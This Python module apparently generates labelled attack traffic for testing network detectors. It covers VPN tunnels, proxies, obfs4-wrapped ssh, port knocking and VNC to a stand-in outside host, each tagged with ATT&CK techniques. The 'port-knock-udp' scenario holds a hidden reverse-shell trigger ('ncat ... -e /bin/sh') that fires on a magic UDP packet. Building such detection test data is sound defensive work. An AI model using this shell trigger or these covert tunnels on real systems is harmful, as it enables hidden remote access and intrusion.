"""VPNs and proxies to outside hosts, port knocking, remote desktops."""
from engine import addresses as at
from engine.declaration import malicious
from engine.hosts import TOOLS
from engine.network import Network
from engine.services import CURL, LOOK_AROUND, bad_certificate, ssh, sshd, web

PAGES = ["index.html", "style.css", "img1.png", "page3.html", "img5.png", "page7.html", "img2.png"]


def http_inside(net: Network, address: str, times: int = 8) -> None:
    """Something to carry."""
    web(net.inet, address, 80, options="--least 500 --most 3000")
    net.c1.every(3, 0.4, times, lambda n, token: f"{CURL} http://{address}/{token}")


def openvpn(net: Network, server_address: str, protocol: str, port: int) -> None:
    """OpenVPN with certificates; also the benign one uses it."""
    authority, server, client = net.material.authority, bad_certificate(net), net.material.certificate("client1")
    there = net.path("openvpn-server.conf", f"dev tun0\ndev-type tun\nproto {protocol.replace('tcp', 'tcp-server')}\nlocal {server_address}\nport {port}\nserver 10.8.0.0 255.255.255.0\n"
                     f"topology subnet\nca {authority.crt}\ncert {server.crt}\nkey {server.key}\ndh none\nkeepalive 5 60\nverb 3\n")  # fmt: skip
    here = net.path("openvpn-client.conf", f"client\ndev tun0\nproto {protocol.replace('tcp', 'tcp-client')}\nremote {server_address} {port}\nnobind\n"
                    f"ca {authority.crt}\ncert {client.crt}\nkey {client.key}\nverb 3\n")  # fmt: skip
    net.inet.start(f"openvpn --config {there}", settle=1.5)
    net.c1.start(f"openvpn --config {here}")
    net.c1.reaches("10.8.0.1")
    http_inside(net, "10.8.0.1")
    net.sleep(10)


@malicious("openvpn-udp-1194", "T1572 T1573.002", tools="openvpn curl", talks=f"c1>{at.BAD}:1194/udp", seconds=55)
def openvpn_udp(net: Network) -> None:
    """OpenVPN udp/1194 to an outside host, http inside"""
    openvpn(net, at.BAD, "udp", 1194)


@malicious("openvpn-tcp-443", "T1572 T1573.002 T1571", tools="openvpn curl", talks=f"c1>{at.BAD}:443/tcp", expects=["T1571"], seconds=55)
def openvpn_tcp(net: Network) -> None:
    """OpenVPN on tcp/443"""
    openvpn(net, at.BAD, "tcp", 443)


@malicious("openvpn-static-key-443", "T1573.001 T1572 T1571", tools="openvpn curl", talks=f"c1>{at.BAD}:443/udp", expects=["low"], seconds=55)
def openvpn_static(net: Network) -> None:
    """OpenVPN with a shared static key on udp/443: no handshake at all, symmetric only"""
    key = str(net.work / "static.key")
    net.c1.run(f"openvpn --genkey secret {key}", note=False)
    both = f"openvpn --dev tun0 --secret {key} --cipher AES-256-CBC --ping 5 --verb 2"
    net.inet.start(f"{both} --local {at.BAD} --port 443 --ifconfig 10.8.1.1 10.8.1.2", settle=1)
    net.c1.start(f"{both} --remote {at.BAD} --nobind --port 443 --ifconfig 10.8.1.2 10.8.1.1")
    net.c1.reaches("10.8.1.1")
    http_inside(net, "10.8.1.1")
    net.sleep(10)


def wireguard(net: Network, server_address: str, port: int, times: int, idle: float) -> None:
    """WireGuard in user space: it needs a tun device, and no module of the kernel."""
    private, public = {}, {}
    for host in (net.inet, net.c1):
        file = str(net.work / f"wg-{host.name}.key")
        private[host.name], public[host.name] = file, host.run(f"umask 77; wg genkey | tee {file} | wg pubkey", note=False).strip()
        host.start("env WG_PROCESS_FOREGROUND=1 wireguard-go -f wg0")
        host.wait_for_device("wg0")
    net.inet.run(f"wg set wg0 listen-port {port} private-key {private['inet']} peer {public['c1']} allowed-ips 10.9.0.2/32; ip addr add 10.9.0.1/24 dev wg0; ip link set wg0 up")
    net.c1.run(f"wg set wg0 private-key {private['c1']} peer {public['inet']} allowed-ips 10.9.0.0/24 endpoint {server_address}:{port} persistent-keepalive 5; "
               "ip addr add 10.9.0.2/24 dev wg0; ip link set wg0 up")  # fmt: skip
    net.c1.reaches("10.9.0.1")
    http_inside(net, "10.9.0.1", times)
    net.sleep(idle)


@malicious("wireguard-51820", "T1572 T1573", tools="wireguard-go wireguard-tools curl", talks=f"c1>{at.BAD}:51820/udp", seconds=60)
def wireguard_51820(net: Network) -> None:
    """wireguard-go on udp/51820, http inside, keep-alive every 5 s"""
    wireguard(net, at.BAD, 51820, 8, 15)


@malicious("wireguard-53", "T1572 T1571", tools="wireguard-go wireguard-tools curl", talks=f"c1>{at.BAD}:53/udp", expects=["medium T1571"], seconds=60)
def wireguard_53(net: Network) -> None:
    """wireguard-go on udp/53, nearly idle"""
    wireguard(net, at.BAD, 53, 2, 35)


@malicious("shadowsocks-8388", "T1090.002 T1573.001", tools="shadowsocks-libev curl", talks=f"c1>{at.BAD}:8388/tcp", expects=["T1573"], seconds=45)
def shadowsocks(net: Network) -> None:
    """shadowsocks-libev (aes-256-gcm) on 8388; other sites are read through it"""
    net.inet.start(f"ss-server -s {at.BAD} -p 8388 -k pw -m aes-256-gcm", listens="8388/tcp")
    net.c1.start(f"ss-local -s {at.BAD} -p 8388 -l 1080 -k pw -m aes-256-gcm", listens="1080/tcp")
    web(net.inet, f"{at.OK}.10", 80, options=f"--root {net.material.website()}")
    net.c1.every(3, 0.4, len(PAGES), lambda n, _: f"{CURL} --socks5-hostname 127.0.0.1:1080 http://{at.OK}.10/{PAGES[n]}")


@malicious("external-socks", "T1090.002", tools="microsocks curl", talks=f"c1>{at.BAD}:1080/tcp", expects=["T1090.002"], seconds=45)
def external_socks(net: Network) -> None:
    """a SOCKS5 proxy outside on 1080, in clear"""
    net.inet.start(f"microsocks -i {at.BAD} -p 1080", listens="1080/tcp")
    web(net.inet, f"{at.OK}.10", 80, options=f"--root {net.material.website()}")
    net.c1.every(3, 0.4, len(PAGES), lambda n, _: f"{CURL} --socks5 {at.BAD}:1080 http://{at.OK}.10/{PAGES[n]}")


@malicious("external-http-proxy", "T1090.002", tools="tinyproxy curl", talks=f"c1>{at.BAD}:8080/tcp", expects=["T1090.002"], seconds=45)
def external_proxy(net: Network) -> None:
    """an HTTP proxy outside on 8080: CONNECT and plain requests for other sites"""
    config = net.path("tinyproxy.conf", f"Port 8080\nListen {at.BAD}\nTimeout 600\nConnectPort 443\nConnectPort 80\n")
    net.inet.start(f"tinyproxy -d -c {config}", listens="8080/tcp")
    web(net.inet, f"{at.OK}.10", 80, options=f"--root {net.material.website()}")
    net.c1.every(3, 0.4, len(PAGES), lambda n, _: f"{CURL} {'-p ' if n % 2 else ''}-x http://{at.BAD}:8080 http://{at.OK}.10/{PAGES[n]}")


@malicious("obfs4-9443", "T1573 T1001.003 T1090.002", tools="obfs4proxy openssh-server", talks=f"c1>{at.BAD}:9443/tcp", expects=["low"], seconds=50)
def obfs4(net: Network) -> None:
    """obfs4proxy: a stream that looks like nothing, carrying ssh"""
    sshd(net, net.inet, "127.0.0.1", 22)
    states = {}
    for side in ("server", "client"):
        states[side] = net.work / f"obfs4-{side}"
        states[side].mkdir()
    common = "TOR_PT_MANAGED_TRANSPORT_VER=1 TOR_PT_EXIT_ON_STDIN_CLOSE=0"
    net.inet.start(f"env {common} TOR_PT_STATE_LOCATION={states['server']} TOR_PT_SERVER_TRANSPORTS=obfs4 TOR_PT_SERVER_BINDADDR=obfs4-{at.BAD}:9443 "
                   "TOR_PT_ORPORT=127.0.0.1:22 obfs4proxy", listens="9443/tcp")  # fmt: skip
    net.c1.type(f"{ssh(net)} -o 'ProxyCommand=env {common} python3 {TOOLS}/pluggable_transport.py {states['client']} {states['server']}/obfs4_bridgeline.txt {at.BAD} 9443' root@bridge",
                LOOK_AROUND, pause=2)  # fmt: skip


@malicious("port-knock-ssh", "T1205.001", tools="knockd openssh-client", talks=f"{at.BAD}>c1:22/tcp", expects=["T1205"], seconds=45)
def knock(net: Network) -> None:
    """three ports of the client are knocked at from outside, then ssh to a port that opens"""
    sshd(net, net.c1, at.C1, 22)
    net.c1.quietly("nft add table ip k; nft 'add chain ip k i { type filter hook input priority 0; }'; nft add rule ip k i tcp dport 22 ip saddr 203.0.113.0/24 drop")
    config = net.path("knockd.conf", "[options]\n logfile = /tmp/knock.log\n Interface = eth0\n[open]\n sequence = 7000,8000,9000\n seq_timeout = 15\n tcpflags = syn\n"
                      " command = /usr/sbin/nft insert rule ip k i ip saddr %IP% tcp dport 22 accept\n")  # fmt: skip
    net.c1.start(f"knockd -i eth0 -c {config}", settle=1.5)
    net.inet.run(f"timeout 3 ncat -z -w 2 {at.C1} 22")
    net.inet.run(f"knock -d 400 {at.C1} 7000 8000 9000")
    net.sleep(2)
    net.inet.type(f"{ssh(net)} -b {at.BAD} root@{at.C1}", LOOK_AROUND)


@malicious("port-knock-udp", "T1205.001 T1205.002", tools="ncat socat", talks=f"c1>{at.BAD}:8443/tcp", expects=["T1205"], seconds=40)
def wake_up(net: Network) -> None:
    """one datagram with a magic word to a closed port; who listens on the packet socket connects back with a shell"""
    net.c1.start(f"python3 {TOOLS}/wake_up.py W4KEUP ncat {at.BAD} 8443 -e /bin/sh", settle=1)
    net.inet.type(f"ncat -lnv {at.BAD} 8443", LOOK_AROUND, pause=2, background=True)
    net.sleep(2)
    net.inet.run(f"printf W4KEUP | socat -u - UDP-SENDTO:{at.C1}:33434,bind={at.BAD}:53")
    net.sleep(24)


@malicious("vnc-5901-out", "T1219", tools="tigervnc-standalone-server tigervnc-viewer xterm xdotool xvfb", talks=f"{at.BAD}>c1:5901/tcp", expects=["T1219"], seconds=50)
def vnc(net: Network) -> None:
    """VNC into the client from outside"""
    desktop(net, "c1", "inet", at.C1)


def desktop(net: Network, shown: str, viewer: str, address: str) -> None:
    """A VNC server with a terminal that prints, and somebody who looks at it and types; also the benign one uses it."""
    server, person = net.hosts[shown], net.hosts[viewer]
    server.start("Xvnc :1 -geometry 480x320 -depth 16 -SecurityTypes None -AlwaysShared -rfbport 5901", listens="5901/tcp")
    server.start("env DISPLAY=:1 xterm -geometry 50x14 -e sh -c 'while :; do date; sleep 4; done'")
    person.start("Xvfb :9 -screen 0 640x480x24", settle=2)
    person.start(f"env DISPLAY=:9 xtigervncviewer -Shared -FullColor=0 -LowColorLevel=1 {address}::5901", settle=5)
    typing = net.path("hands.sh", "export DISPLAY=:9; for i in 1 2 3 4 5 6 7 8 9 10; do xdotool mousemove $((RANDOM % 400)) $((RANDOM % 250)); xdotool key l s minus l Return; sleep 1; done\n")
    person.run(f"bash {typing}")
    net.sleep(3)
